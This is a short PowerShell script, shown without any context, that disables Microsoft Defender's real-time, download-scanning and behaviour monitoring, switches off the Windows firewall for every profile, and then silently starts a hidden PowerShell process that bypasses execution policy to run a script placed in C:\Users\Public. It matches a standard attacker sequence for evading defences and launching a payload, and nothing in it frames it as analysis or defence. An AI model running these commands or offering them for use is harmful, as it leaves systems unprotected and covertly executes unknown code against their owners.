Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true
Set-MpPreference -DisableBehaviorMonitoring $true
netsh advfirewall set allprofiles state off
Set-NetFirewallProfile -Profile Domain, Public, Private -Enabled False
Start-Process -FilePath powershell.exe -ArgumentList '-NoP -W Hidden -ExecutionPolicy Bypass -File C:\Users\Public\s.ps1' -WindowStyle Hidden
